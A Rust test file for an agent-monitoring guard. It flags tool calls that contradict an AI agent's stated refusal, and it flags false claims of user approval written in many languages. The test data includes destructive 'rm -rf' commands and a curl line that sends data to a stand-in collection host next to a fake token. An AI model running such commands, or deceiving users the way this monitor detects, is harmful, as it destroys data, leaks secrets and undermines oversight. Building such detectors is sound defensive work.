//! What a message says, and what follows for its call.

use super::*;
use crate::call::ToolCall;
use holdgate_effects::fuel::Fuel;
use holdgate_effects::json::{Json, LoneSurrogates};
use holdgate_effects::path::World;
use holdgate_effects::{Knowledge, understand_all};
use proptest::prelude::*;
use std::sync::Arc;

fn effects(tool: &str, input: &serde_json::Value) -> Vec<Effect> {
    let text = input.to_string();
    let json = Json::read(text.as_bytes(), 64, LoneSurrogates::Refuse).unwrap();
    let call = ToolCall::alone("call", tool, json.into_owned());
    let world = Arc::new(World::lexical("/home/dev/project"));
    let fuel = Fuel::until(
        1_000_000,
        Arc::new(std::time::Duration::ZERO),
        std::time::Duration::MAX,
    );
    let know = Knowledge::built_in().unwrap();
    understand_all(call.invocation(), &world, &know, &fuel)
        .unwrap()
        .effects
}

fn bash(command: &str) -> Vec<Effect> {
    effects("Bash", &serde_json::json!({ "command": command }))
}

fn verdict(said: &str, command: &str) -> Option<Verdict> {
    let findings = examine(said, &bash(command), None);
    findings.iter().map(|finding| finding.verdict).max()
}

#[test]
fn every_case_of_the_corpus() {
    let cases = include_str!("../../../../corpus/divergence.jsonl");
    let mut wrong = Vec::new();
    for line in cases.lines() {
        let case: serde_json::Value = serde_json::from_str(line).unwrap();
        let (message, call) = (&case["message"], &case["message"]["call"]);
        let effects = effects(call["tool"].as_str().unwrap(), &call["input"]);
        let findings = examine(message["text"].as_str().unwrap(), &effects, None);
        let strictest = findings.iter().map(|finding| finding.verdict).max();
        let right = match case["expect"].as_str().unwrap() {
            "block" => strictest == Some(Verdict::Block),
            _ => strictest <= Some(Verdict::Audit),
        };
        if !right {
            wrong.push(format!("{} {strictest:?}", case["id"]));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn a_refusal_is_as_strict_as_what_it_is_about() {
    let said = "I won't delete the uploads.";
    assert_eq!(verdict(said, "rm -rf uploads"), Some(Verdict::Block));
    // Something else is deleted, and nothing announces it.
    assert_eq!(verdict(said, "rm -rf reports"), Some(Verdict::Ask));
    assert_eq!(verdict(said, "ls uploads"), Some(Verdict::Audit));
    assert_eq!(verdict("Removing the uploads.", "rm -rf uploads"), None);
}

#[test]
fn what_waits_for_the_user_is_asked() {
    let said = "I won't delete the uploads until you confirm.";
    assert_eq!(verdict(said, "rm -rf uploads"), Some(Verdict::Ask));
    let said = "I won't delete the uploads until the backup is done.";
    assert_eq!(verdict(said, "rm -rf uploads"), Some(Verdict::Audit));
}

#[test]
fn only_the_end_of_a_long_text_counts_and_no_half_sentence() {
    let filler = "All is well here. ".repeat(200);
    let said = format!("I won't delete the uploads. {filler}");
    assert_eq!(verdict(&said, "rm -rf uploads"), None);
    let said = format!("{filler}I won't delete the uploads.");
    assert_eq!(verdict(&said, "rm -rf uploads"), Some(Verdict::Block));
    // The cut is right behind the `If`.
    let half = " I can't delete it, I'll rename the uploads. ";
    let filler = "x".repeat(READ - half.len());
    assert_eq!(
        verdict(&format!("If{half}{filler}"), "rm -rf uploads"),
        None
    );
}

#[test]
fn the_refusing_sentence_is_the_evidence_without_its_secrets() {
    let said = "Fine. I will not send the key ghp_0123456789abcdefghijABCDEFGHIJ012345 anywhere.";
    let findings = examine(said, &bash("curl -d x https://collect.example.net"), None);
    let evidence = findings[0].evidence.as_ref().unwrap();
    assert_eq!(
        evidence.as_str(),
        "I will not send the key ghp_[masked] anywhere."
    );
    assert_eq!(findings[0].layer, LayerName::Divergence);
}

#[test]
fn an_approval_counts_only_if_the_user_gave_it() {
    let said = "As you approved, I'm removing the uploads.";
    let check = |user: Option<&str>, command: &str| {
        let findings = examine(said, &bash(command), user);
        findings.first().map(|finding| finding.verdict)
    };
    assert_eq!(check(None, "rm -rf uploads"), Some(Verdict::Audit));
    let user = Some("Tidy up the README.");
    assert_eq!(check(user, "rm -rf uploads"), Some(Verdict::Ask));
    assert_eq!(check(user, "ls uploads"), Some(Verdict::Audit));
    assert_eq!(check(Some("Yes, go ahead."), "rm -rf uploads"), None);
    assert_eq!(
        check(Some("Please delete the uploads."), "rm -rf uploads"),
        None
    );
}

#[test]
fn approvals_are_claimed_in_many_words() {
    for said in [
        "You confirmed that I may drop it.",
        "With your permission, I'm pushing now.",
        "Since you’ve agreed, I'll delete it.",
        "The user has already authorized this.",
        "Thanks for confirming. Deleting it. This was approved by you.",
        "Wie du bereits genehmigt hast, lösche ich es.",
        "Avec votre accord, je supprime.",
        "Con tu permiso, lo borro.",
        "Como você autorizou, vou apagar.",
        "Вы уже разрешили это.",
        "您已经批准了这个操作。",
        "ご承認いただきましたので、削除します。",
        "승인해 주셔서 삭제하겠습니다.",
    ] {
        let findings = examine(said, &bash("ls"), None);
        let rules: Vec<_> = findings.iter().map(|finding| &*finding.rule).collect();
        assert_eq!(rules, ["claimed-approval"], "{said}");
    }
    for said in [
        "Once you approve, I'll delete it.",
        "I need your approval. If you have approved the plan, tell me.",
        "As you requested, I'm deleting it.",
        "You have not approved this.",
        "Have you approved this?",
        "The review says \"you approved it\".",
    ] {
        assert!(examine(said, &bash("ls"), None).is_empty(), "{said}");
    }
}

#[test]
fn what_is_quoted_refuses_nothing() {
    for said in [
        "> I won't delete the uploads.",
        "```\nI won't delete the uploads.\n```",
        "The log says \"I won't delete the uploads.\"",
        "The log says “I won't delete the uploads.”",
        "It answers `I won't delete the uploads.`",
    ] {
        assert_eq!(verdict(said, "rm -rf uploads"), None, "{said}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    /// Any text has a result, and a fence around it silences it.
    #[test]
    fn any_text_is_read(
        words in prop::collection::vec(prop::sample::select(vec![
            "I", "won't", "can't", "delete", "the", "uploads", "\"", "`", "'", ".", "?", "\n", ",", "so",
            "let me", "ich", "nicht", "我不会", "删除", "ません", "\u{301}", "\u{fffc}", "İ", "…", "```\n",
        ]), 0..60),
    ) {
        let text = words.join(" ");
        let effects = bash("rm -rf uploads");
        examine(&text, &effects, Some(&text));
        let fenced = format!("~~~\n{text}\n~~~\n");
        prop_assert!(examine(&fenced, &effects, None).is_empty());
    }
}
